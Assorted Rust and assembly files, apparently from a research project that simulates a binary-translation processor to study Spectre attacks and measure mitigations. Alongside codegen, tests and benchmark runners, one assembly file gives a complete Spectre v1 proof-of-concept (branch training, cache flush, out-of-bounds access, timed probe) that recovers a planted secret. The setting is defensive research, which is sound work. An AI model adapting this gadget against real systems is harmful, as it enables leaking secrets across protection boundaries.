            DbtConfig::for_policy(MitigationPolicy::NoSpeculation),
            DbtConfig::no_speculation()
        );
    }

    #[test]
    fn invalid_ranges_are_detected() {
        let c = DbtConfig { branch_bias_threshold: 0.2, ..DbtConfig::default() };
        assert!(!c.is_valid());
        let c = DbtConfig { issue_width: 0, ..DbtConfig::default() };
        assert!(!c.is_valid());
    }
}
