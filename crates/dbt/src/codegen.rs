//! Code generation: turning a scheduled IR block into VLIW bundles plus the
//! sequential recovery code used after Memory Conflict Buffer rollbacks.

use crate::regalloc::RegAlloc;
use crate::schedule::Schedule;
use dbt_ir::{DepGraph, DepKind, InstId, IrBlock, IrOp, MemWidth, Operand as IrOperand};
use dbt_riscv::inst::AluOp;
use dbt_vliw::{AccessWidth, Bundle, Op, Operand, TranslatedBlock};

fn width(w: MemWidth) -> AccessWidth {
    AccessWidth::new(w.bytes, w.sign_extend)
}

fn operand(alloc: &RegAlloc, op: IrOperand) -> Operand {
    match op {
        IrOperand::Value(id) => Operand::Phys(alloc.reg(id).expect("operand refers to a value")),
        IrOperand::LiveIn(reg) => Operand::Arch(reg),
        IrOperand::Imm(v) => Operand::Imm(v),
    }
}

/// Returns `true` if instruction `load` is placed before `other` in the
/// schedule (and therefore executes speculatively with respect to it).
fn bypasses(schedule: &Schedule, load: InstId, other: InstId) -> bool {
    schedule.placement(load) < schedule.placement(other)
}

fn lower(
    block: &IrBlock,
    graph: &DepGraph,
    schedule: &Schedule,
    alloc: &RegAlloc,
    id: InstId,
    for_recovery: bool,
) -> Option<Op> {
    let inst = block.inst(id);
    let seq = inst.original_seq as u32;
    let op = match &inst.op {
        IrOp::Const(v) => Op::Alu {
            op: AluOp::Add,
            dst: alloc.reg(id).expect("const produces a value"),
            a: Operand::Imm(*v),
            b: Operand::Imm(0),
        },
        IrOp::Alu { op, a, b } => Op::Alu {
            op: *op,
            dst: alloc.reg(id).expect("alu produces a value"),
            a: operand(alloc, *a),
            b: operand(alloc, *b),
        },
        IrOp::Load { width: w, base, offset } => {
            let speculative = !for_recovery
                && graph.edges().iter().any(|e| {
                    e.relaxable
                        && e.to == id
                        && matches!(e.kind, DepKind::Memory | DepKind::Control)
                        && bypasses(schedule, id, e.from)
                });
            Op::Load {
                width: width(*w),
                dst: alloc.reg(id).expect("load produces a value"),
                base: operand(alloc, *base),
                offset: *offset,
                speculative,
                original_seq: seq,
            }
        }
        IrOp::Store { width: w, value, base, offset } => {
            let checks_mcb = !for_recovery
                && graph.edges().iter().any(|e| {
                    e.relaxable
                        && e.from == id
                        && e.kind == DepKind::Memory
                        && bypasses(schedule, e.to, id)
                });
            Op::Store {
                width: width(*w),
                value: operand(alloc, *value),
                base: operand(alloc, *base),
                offset: *offset,
                checks_mcb,
                original_seq: seq,
            }
        }
        IrOp::WriteReg { reg, value } => Op::CommitReg { reg: *reg, src: operand(alloc, *value) },
        IrOp::SideExit { cond, a, b, target } => Op::SideExit {
            cond: *cond,
            a: operand(alloc, *a),
            b: operand(alloc, *b),
            target: *target,
        },
        IrOp::Jump { target } => Op::Jump { target: *target },
        IrOp::JumpIndirect { target } => Op::JumpIndirect { target: operand(alloc, *target) },
        IrOp::Halt => Op::Halt,
        IrOp::RdCycle => Op::RdCycle { dst: alloc.reg(id).expect("rdcycle produces a value") },
        IrOp::CacheFlush { base, offset } => {
            Op::CacheFlush { base: operand(alloc, *base), offset: *offset }
        }
        IrOp::Fence => return None,
    };
    Some(op)
}

/// Generates the final [`TranslatedBlock`] from a scheduled IR block.
///
/// Loads that the schedule moved above a store or side exit they originally
/// depended on (through a relaxable edge) are emitted as speculative loads;
/// stores bypassed by at least one such load check the Memory Conflict
/// Buffer. The recovery sequence re-expresses the block in original program
/// order with speculation disabled.
pub fn generate(
    block: &IrBlock,
    graph: &DepGraph,
    schedule: &Schedule,
    alloc: &RegAlloc,
) -> TranslatedBlock {
    let mut bundles: Vec<Bundle> = (0..schedule.cycles()).map(|_| Bundle::new()).collect();
    // Place ops cycle by cycle, keeping slot order.
    let mut order: Vec<InstId> = block.insts().iter().map(|i| i.id).collect();
    order.sort_by_key(|id| schedule.placement(*id));
    for id in order {
        if let Some(op) = lower(block, graph, schedule, alloc, id, false) {
            let cycle = schedule.placement(id).cycle as usize;
            bundles[cycle].slots.push(op);
        }
    }
    // Drop empty bundles at the end (a fence-only cycle, for example), but
    // keep interior ones so relative cycle counts stay meaningful.
    while bundles.last().is_some_and(|b| b.slots.is_empty()) {
        bundles.pop();
    }

    let recovery: Vec<Op> = block
        .insts()
        .iter()
        .filter_map(|inst| lower(block, graph, schedule, alloc, inst.id, true))
        .collect();

    let guest_inst_count = block.insts().iter().map(|i| i.original_seq + 1).max().unwrap_or(0);

    TranslatedBlock {
        entry_pc: block.entry_pc(),
        bundles,
        phys_reg_count: alloc.count(),
        recovery,
        guest_inst_count,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::schedule::schedule;
    use dbt_ir::{BlockKind, DfgOptions};
    use dbt_riscv::Reg;

    /// Guest order: slow value ; store [a0] ; v = load const-addr ;
    /// leak = load v ; commit ; jump — the Spectre v4 shape where the store
    /// waits on a long computation and the loads are hoisted above it.
    fn v4_like_block() -> IrBlock {
        let mut b = IrBlock::new(0x40, BlockKind::Basic);
        let slow = b.push(
            IrOp::Alu {
                op: AluOp::Div,
                a: IrOperand::LiveIn(Reg::A2),
                b: IrOperand::LiveIn(Reg::A3),
            },
            0x3c,
            0,
        );
        b.push(
            IrOp::Store {
                width: MemWidth::DOUBLE,
                value: IrOperand::Value(slow),
                base: IrOperand::LiveIn(Reg::A0),
                offset: 0,
            },
            0x40,
            1,
        );
        let c = b.push(IrOp::Const(0x2000), 0x44, 2);
        let v = b.push(
            IrOp::Load { width: MemWidth::DOUBLE, base: IrOperand::Value(c), offset: 0 },
            0x44,
            2,
        );
        let addr = b.push(
            IrOp::Alu { op: AluOp::Add, a: IrOperand::Value(v), b: IrOperand::Imm(0x3000) },
            0x48,
            3,
        );
        let leak = b.push(
            IrOp::Load { width: MemWidth::BYTE_U, base: IrOperand::Value(addr), offset: 0 },
            0x48,
            3,
        );
        b.push(IrOp::WriteReg { reg: Reg::A1, value: IrOperand::Value(leak) }, 0x48, 3);
        b.push(IrOp::Jump { target: 0x4c }, 0x4c, 4);
        b
    }

    fn build(block: &IrBlock, options: DfgOptions) -> TranslatedBlock {
        let graph = DepGraph::build(block, options);
        let sched = schedule(block, &graph, 4).unwrap();
        let alloc = RegAlloc::allocate(block);
        generate(block, &graph, &sched, &alloc)
    }

    #[test]
    fn speculative_loads_and_checked_stores_are_marked() {
        let block = v4_like_block();
        let translated = build(&block, DfgOptions::aggressive());
        assert!(translated.speculative_load_count() >= 1);
        let has_checked_store = translated
            .bundles
            .iter()
            .flat_map(|b| &b.slots)
            .any(|op| matches!(op, Op::Store { checks_mcb: true, .. }));
        assert!(has_checked_store);
    }

    #[test]
    fn no_speculation_means_no_markers() {
        let block = v4_like_block();
        let translated = build(&block, DfgOptions::no_speculation());
        assert_eq!(translated.speculative_load_count(), 0);
        assert!(translated
            .bundles
            .iter()
            .flat_map(|b| &b.slots)
            .all(|op| !matches!(op, Op::Store { checks_mcb: true, .. })));
    }

    #[test]
    fn recovery_is_sequential_and_unspeculative() {
        let block = v4_like_block();
        let translated = build(&block, DfgOptions::aggressive());
        assert_eq!(translated.recovery.len(), block.len());
        assert!(translated.recovery.iter().all(|op| !matches!(
            op,
            Op::Load { speculative: true, .. } | Op::Store { checks_mcb: true, .. }
        )));
        assert!(matches!(translated.recovery.last(), Some(Op::Jump { .. })));
        // Recovery preserves original order: the store comes before the loads.
        let store_pos =
            translated.recovery.iter().position(|op| matches!(op, Op::Store { .. })).unwrap();
        let load_pos =
            translated.recovery.iter().position(|op| matches!(op, Op::Load { .. })).unwrap();
        assert!(store_pos < load_pos);
    }

    #[test]
    fn bundles_respect_issue_width_and_terminate() {
        let block = v4_like_block();
        let translated = build(&block, DfgOptions::aggressive());
        assert!(translated.bundles.iter().all(|b| b.slots.len() <= 4));
        let last = translated.bundles.last().unwrap();
        assert!(last.slots.iter().any(|op| op.is_terminator()));
        assert!(translated.guest_inst_count >= 4);
        assert!(translated.phys_reg_count >= 3);
    }
}
