//! Runs the Spectre v4 proof-of-concept (memory-dependency speculation via
//! the Memory Conflict Buffer) under every mitigation policy.
//!
//! ```sh
//! cargo run --release -p ghostbusters-examples --bin spectre_v4_attack
//! ```

use dbt_attacks::run_spectre_v4;
use ghostbusters::MitigationPolicy;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let secret = b"MCB leak";
    println!("planted secret: {:?}\n", String::from_utf8_lossy(secret));
    for policy in MitigationPolicy::ALL {
        let outcome = run_spectre_v4(policy, secret)?;
        println!(
            "{:<15} recovered {:?}  ({}/{} bytes, {} MCB rollback(s))",
            policy.label(),
            String::from_utf8_lossy(&outcome.recovered),
            outcome.correct_bytes(),
            outcome.secret.len(),
            outcome.rollbacks
        );
    }
    Ok(())
}
