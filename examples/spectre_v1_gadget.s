# A Spectre v1 gadget as text assembly — the `.s` twin of
# `dbt_attacks::spectre_v1::build(b"GhostBusters")`.
#
# This file mirrors the Rust builder's emission sequence statement for
# statement, so `parse_asm` reassembles it byte-identically to the
# in-repo proof-of-concept (the golden test in tests/program_service.rs
# asserts exactly that). It is also the ad-hoc upload used by the CI
# daemon smoke test:
#
#   lab submit upload examples/spectre_v1_gadget.s --addr HOST:PORT
#   lab submit analyze fp:<fingerprint>  --addr HOST:PORT   # flags the leak
#   lab analyze examples/spectre_v1_gadget.s                # same, locally
#
# The victim is the classic bounds-checked double access: under biased
# training the DBT engine builds a speculating superblock that hoists
# both loads above the bounds check, and the out-of-bounds call leaks
# one secret byte per outer iteration into the cache side channel.

# --- data layout (order matters: it fixes the guest addresses) --------
.data buffer, 16                 # the victim's legitimate buffer
.word size, 16                   # bounds-check limit
.ascii secret, "GhostBusters"    # planted right behind the buffer
.data recovered, 12              # where the attacker stores its bytes
.data probe, 16384, 64           # 256 entries x 64-byte stride, line-aligned

# --- the victim: a0 = index ------------------------------------------
    j main
victim:
    la t0, size
    ld t0, 0(t0)
    bgeu a0, t0, skip            # the bypassable bounds check
    la t1, buffer
    add t1, t1, a0
    lbu t2, 0(t1)                # secret-dependent load...
    slli t2, t2, 6
    la t3, probe
    add t3, t3, t2
    lbu t4, 0(t3)                # ...transmitted into the cache
skip:
    ret

# --- the attacker ----------------------------------------------------
main:
    li s0, 0                     # s0 = secret byte index
    li s1, 12                    # s1 = secret length
outer:
    # training: in-bounds calls bias the branch and heat the block
    li s6, 0
train:
    andi a0, s6, 15
    call victim
    addi s6, s6, 1
    li t0, 24
    blt s6, t0, train

    # flush every probe-entry line
    li s2, 0
    la s3, probe
flush:
    slli t0, s2, 6
    add t0, s3, t0
    cflush 0(t0)
    addi s2, s2, 1
    li t1, 256
    blt s2, t1, flush

    # the malicious call: index = &secret + s0 - &buffer
    la t0, secret
    add t0, t0, s0
    la t1, buffer
    sub a0, t0, t1
    call victim

    # timed reload: keep the fastest probe entry in s4
    li s4, 0
    li s5, 1073741824
    li s2, 1
    la s3, probe
probe_head:
    slli t0, s2, 6
    add t0, s3, t0
    rdcycle t1
    lbu t2, 0(t0)
    rdcycle t3
    sub t3, t3, t1
    bgeu t3, s5, probe_next
    mv s5, t3
    mv s4, s2
probe_next:
    addi s2, s2, 1
    li t1, 256
    blt s2, t1, probe_head

    # record the byte and advance
    la t0, recovered
    add t0, t0, s0
    sb s4, 0(t0)
    addi s0, s0, 1
    blt s0, s1, outer
    ecall
