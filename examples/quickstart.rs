//! Quickstart: assemble a small guest program, run it on the simulated
//! DBT-based processor under two mitigation policies, and compare cycles.
//!
//! ```sh
//! cargo run -p ghostbusters-examples --bin quickstart
//! ```

use dbt_platform::{Session, TranslationService};
use dbt_riscv::{Assembler, Reg};
use ghostbusters::MitigationPolicy;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    // A tiny guest program: sum an in-memory array into `result`.
    let mut asm = Assembler::new();
    let data = asm.alloc_data_u64("data", &(1..=64u64).collect::<Vec<_>>());
    let result = asm.alloc_data("result", 8);
    let head = asm.new_label();
    asm.li(Reg::S0, 0); // index
    asm.li(Reg::S1, 0); // sum
    asm.la(Reg::S2, data);
    asm.li(Reg::S3, 64);
    asm.bind(head);
    asm.slli(Reg::T0, Reg::S0, 3);
    asm.add(Reg::T0, Reg::S2, Reg::T0);
    asm.ld(Reg::T1, Reg::T0, 0);
    asm.add(Reg::S1, Reg::S1, Reg::T1);
    asm.addi(Reg::S0, Reg::S0, 1);
    asm.blt(Reg::S0, Reg::S3, head);
    asm.la(Reg::T0, result);
    asm.sd(Reg::S1, Reg::T0, 0);
    asm.ecall();
    let program = asm.assemble()?;

    // All five runs share one translation service: policy-independent
    // translation work (the whole first tier) is compiled once and reused.
    let service = TranslationService::new();
    for policy in MitigationPolicy::ALL {
        let mut session =
            Session::builder().program(&program).policy(policy).service(&service).build()?;
        let summary = session.run()?;
        println!(
            "{:<15} {:>8} cycles, {:>3} blocks, result = {}",
            policy.label(),
            summary.cycles,
            summary.blocks_executed,
            session.load_symbol_u64("result")?
        );
    }
    let stats = service.stats();
    println!("translation service: {} hits / {} misses", stats.hits, stats.misses);
    Ok(())
}
