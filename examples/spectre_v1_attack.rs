//! Runs the Spectre v1 proof-of-concept (trace-scheduling speculation) under
//! every mitigation policy and prints what the attacker recovered.
//!
//! ```sh
//! cargo run --release -p ghostbusters-examples --bin spectre_v1_attack
//! ```

use dbt_attacks::run_spectre_v1;
use ghostbusters::MitigationPolicy;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let secret = b"GhostBusters!";
    println!("planted secret: {:?}\n", String::from_utf8_lossy(secret));
    for policy in MitigationPolicy::ALL {
        let outcome = run_spectre_v1(policy, secret)?;
        println!(
            "{:<15} recovered {:?}  ({}/{} bytes, {} Spectre pattern(s) detected by the DBT)",
            policy.label(),
            String::from_utf8_lossy(&outcome.recovered),
            outcome.correct_bytes(),
            outcome.secret.len(),
            outcome.patterns_detected
        );
    }
    Ok(())
}
