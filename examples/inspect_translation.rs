//! Shows what the DBT engine actually produces for the Spectre v1 victim:
//! the optimised superblock (with speculative loads marked) and the
//! GhostBusters mitigation report, under the unsafe and fine-grained
//! configurations.
//!
//! ```sh
//! cargo run -p ghostbusters-examples --bin inspect_translation
//! ```

use dbt_attacks::spectre_v1;
use dbt_platform::Session;
use ghostbusters::MitigationPolicy;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let program = spectre_v1::build(b"S").expect("attack program assembles");
    // The victim function starts right after the initial jump to main.
    let victim_pc = program.code_base() + 4;

    for policy in [MitigationPolicy::Unprotected, MitigationPolicy::FineGrained] {
        println!("=== policy: {} ===", policy.label());
        let mut session = Session::builder().program(&program).policy(policy).build()?;
        session.run()?;
        if let Some((block, _)) = session.engine().tcache().lookup(victim_pc) {
            println!("{block}");
            println!(
                "speculative loads in the victim superblock: {}",
                block.speculative_load_count()
            );
        }
        for (pc, report) in session.engine().mitigation_reports() {
            if *pc == victim_pc {
                println!("mitigation report: {report}");
            }
        }
        println!();
    }
    Ok(())
}
