//! Measures the slowdown of the countermeasures on the Polybench-style
//! suite (the shape of the paper's Figure 4), at the mini problem size so
//! it finishes quickly even in debug builds.
//!
//! ```sh
//! cargo run --release -p ghostbusters-examples --bin polybench_slowdown
//! ```

use dbt_platform::{PolicyComparison, TranslationService};
use dbt_workloads::{suite, WorkloadSize};
use ghostbusters::MitigationPolicy;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    println!(
        "{:<12} {:>12} {:>14} {:>10} {:>16}",
        "kernel", "unsafe(cyc)", "our approach", "fence", "no speculation"
    );
    let service = TranslationService::new();
    for workload in suite(WorkloadSize::Mini) {
        let comparison =
            PolicyComparison::measure_with(workload.name, &workload.program, &service)?;
        println!(
            "{:<12} {:>12} {:>13.1}% {:>9.1}% {:>15.1}%",
            comparison.name,
            comparison.unprotected_cycles(),
            comparison.slowdown(MitigationPolicy::FineGrained) * 100.0,
            comparison.slowdown(MitigationPolicy::Fence) * 100.0,
            comparison.slowdown(MitigationPolicy::NoSpeculation) * 100.0,
        );
    }
    Ok(())
}
